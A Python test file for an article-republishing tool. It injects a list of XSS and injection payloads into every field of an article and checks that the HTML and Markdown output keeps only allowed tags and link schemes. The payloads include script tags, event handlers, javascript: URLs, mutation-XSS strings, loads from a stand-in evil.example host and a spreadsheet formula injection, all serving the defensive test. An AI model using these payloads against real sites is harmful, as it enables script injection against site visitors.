# ruff: noqa: E501  a payload is one piece
"""Texts that want to break out of a copy, put where no door has cleaned them, into every field. No database."""

import re
from html.parser import HTMLParser

import nh3
import pytest
from markdown_it import MarkdownIt
from mdit_py_plugins.footnote import footnote_plugin
from mdit_py_plugins.front_matter import front_matter_plugin

from articles.republishing.tree import DEEPEST
from articles.richtext.cleaning import Unclean, clean
from tests.articles.republishing.making import CODE, make_line, make_package, make_picture, make_terms, written

ALLOWED = {
    "article": {"lang"}, "a": {"href", "id", "rel", "aria-label"}, "li": {"id"}, "span": {"lang"}, "time": {"datetime"},
    "th": {"scope", "colspan", "rowspan"}, "td": {"colspan", "rowspan"},
} | dict.fromkeys(
    ["h1", "h2", "h3", "h4", "p", "ul", "ol", "blockquote", "hr", "br", "em", "strong", "sub", "sup", "table", "caption", "thead", "tbody", "tr", "figure", "figcaption"], set()
)  # fmt: skip
CALLS = "alert(1)"
READER = MarkdownIt("commonmark").enable("table").use(footnote_plugin).use(front_matter_plugin)
PAYLOADS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script >", "<script>",
    "<scr<script>ipt>alert(1)</script>", "</p><script>alert(1)//", "<style>*{background:url(//evil.example)}</style>",
    "<style><img src=x onerror=alert(1)></style>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math href=javascript:alert(1)>x</math>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>", "<img srcset='//evil.example/x 1x'>", "<picture><source srcset=//evil.example/x></picture>",
    "<video src=x onerror=alert(1)></video>", "<video poster=//evil.example/x>", "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<p onclick=alert(1) style='x:expression(alert(1))' class=x id=y>x</p>",
    "<p/onmouseover=alert(1)>x", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<title><a href='</title><img src=x>'>",
    "<xmp><p></xmp><img src=x onerror=alert(1)>", "<plaintext><script>", "<listing>&lt;img onerror=alert(1)&gt;</listing>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x></applet>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x>", "<base href=//evil.example/>", "<frameset onload=alert(1)><frame>",
    "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>", "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=vbscript:alert(1)>x</a>", "<a href=blob:x>x</a>",
    "<a href=file:///etc/passwd>x</a>", "<a href='http://a\"onclick=alert(1)//'>x</a>", "<a href=\"https://x.example/'><script>\">x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>", "<a href=https://user:pw@evil.example/>x</a>",
    "<!--><script>alert(1)</script>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!doctype x [<!entity y 'z'>]>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php alert(1) ?>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;script&#62;alert(1)", "\0<scr\0ipt>",
    "<sup data-footnote><script>alert(1)</script>note</sup>", "<sup data-footnote onclick=alert(1) id=x>javascript:alert(1)</sup>",
    "<figure data-picture='1' onclick=alert(1)><figcaption><img src=x onerror=alert(1)>c</figcaption></figure>",
    "<figure data-picture='\"><script>'><img src=x></figure>", "<div data-embed=x><iframe src=//evil.example></iframe></div>",
    "<span lang='\"><script>alert(1)</script>'>x</span>", "<td colspan='\"onclick=alert(1)'>x", "<th scope='\" onclick=alert(1)'>x",
    "<table><tr><td><script>alert(1)</script></td></tr></table>", "<ul><li><style>x</style><li onclick=alert(1)>x</ul>",
    "![x](javascript:alert(1))", "[x](javascript:alert(1))", "<javascript:alert(1)>", "[^1]: javascript:alert(1)",
    "```\n<script>alert(1)</script>", "---\ntitle: x\n---", "\u202e<script>alert(1)</script>", "=cmd|' /C calc'!A0",
]  # fmt: skip


class Tags(HTMLParser):
    """Every tag of a fragment with its attributes, and whatever else is no text."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.others = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def everywhere(payload: str):
    """A package with the payload in the body, in every place of it, and in every other field."""
    picture = make_picture(1, credit=payload, caption=payload, alt=payload)
    body = (
        f"<p>Before {payload} after</p><h2>{payload}</h2><ul><li>{payload}</li></ul><blockquote>{payload}</blockquote>"
        f"<table><caption>{payload}</caption><tbody><tr><td>{payload}</td></tr></tbody></table>"
        f'<p>A note<sup data-footnote>{payload}</sup></p><figure data-picture="1"><figcaption>{payload}</figcaption></figure>'
    )
    note = {"change": "correction", "note": payload, "at": "2026-05-05T10:00:00+00:00"}
    return make_package(
        body, pictures={"1": picture}, lead_picture=picture, lead_caption=payload, title=f"T {payload}", lead=payload,
        byline_note=payload, bylines=[make_line(payload, position=payload)], notes=[note],
        terms=make_terms(title=payload, notice=payload),
    )  # fmt: skip


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_holds_only_what_the_set_knows(payload):
    html = written(everywhere(payload))["html"]
    found = Tags(html)

    assert found.others == []
    for tag, attributes in found.tags:
        assert set(attributes) <= ALLOWED[tag], (tag, attributes)
        assert re.match(r"(https?://|mailto:|#k7m2p9qx-(note|ref)-\d)", attributes.get("href", "http://")), attributes
        assert attributes.get("id", CODE).startswith(CODE)
    assert [tag for tag, _ in found.tags].count("h1") == 1
    assert html.count(f"Copy {CODE}.") == 2
    assert "https://institute.example/articles/full-stores/</a>" in html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_holds_no_html_and_no_other_address(payload):
    markdown = written(everywhere(payload))["md"].split("\n---\n", 1)[1]

    # Addresses stand in <> after a bracket and hold neither sign; any other "<" has a backslash before it.
    rest = re.sub(r"\]\(<(https?://|mailto:)[^<>\s]*>\)", "", markdown)
    assert not re.search(r"(?<!\\)(\\\\)*<", rest)
    assert not re.search(r"(?<!\\)(\\\\)*\]\s?\(", rest)
    for number, note in re.findall(r"^\[\^(\d+)\]: (.*)$", markdown, re.MULTILINE):
        assert note.endswith("&nbsp;") or re.match(r"\S+\s+[^\s\"'(]", note), (number, note)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_independent_reader_finds_no_html_and_no_picture_in_markdown(payload):
    blocks = READER.parse(written(everywhere(payload))["md"])
    found = [token for block in blocks for token in (block, *(block.children or []))]

    assert {"html_block", "html_inline", "image"}.isdisjoint(token.type for token in found)
    addresses = [token.attrs["href"] for token in found if token.type == "link_open"]
    assert addresses
    assert all(address.startswith(("https://", "http://", "mailto:")) for address in addresses)
    assert [token.tag for token in found if token.type == "heading_open"].count("h1") == 1


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_the_door_let_in_leaves_unchanged_by_a_second_one(payload):
    try:
        body = clean(f"<p>Before</p>{payload}<p>After</p>").html
    except Unclean:
        pytest.skip("The door refuses it.")

    html = written(make_package(body))["html"]

    again = nh3.clean(
        html,
        tags=set(ALLOWED),
        attributes=ALLOWED,
        url_schemes={"http", "https", "mailto"},
        link_rel=None,
        strip_comments=True,
    )
    # It needs no entity for an apostrophe, and has an order of attributes of its own.
    assert sorted(re.split(r"[ >]", again)) == sorted(re.split(r"[ >]", html.replace("&#x27;", "'")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_one_credit_and_the_address_stand_in_every_form(payload):
    for form, copy in written(everywhere(payload)).items():
        assert copy.count("First published: Meridian Institute, 3 May 2026: ") == 1, form
        assert "https://institute.example/articles/full-stores/" in copy
        assert CODE in copy


def test_nesting_that_no_text_has_is_left_out():
    package = make_package("<blockquote>" * 5000 + "deep")

    assert written(package)["html"].count("<blockquote>") == DEEPEST
    assert [item.kind for item in package.left_out] == ["blockquote"]


@pytest.mark.parametrize(
    "body", ["<p", "<a href='", "<p>&#x110000;&#xD800;&bogus;", "</p></table></li>", "<<<>>>", "<p><table><p>"]
)
def test_broken_markup_is_read_without_an_error(body):
    written(make_package(body))
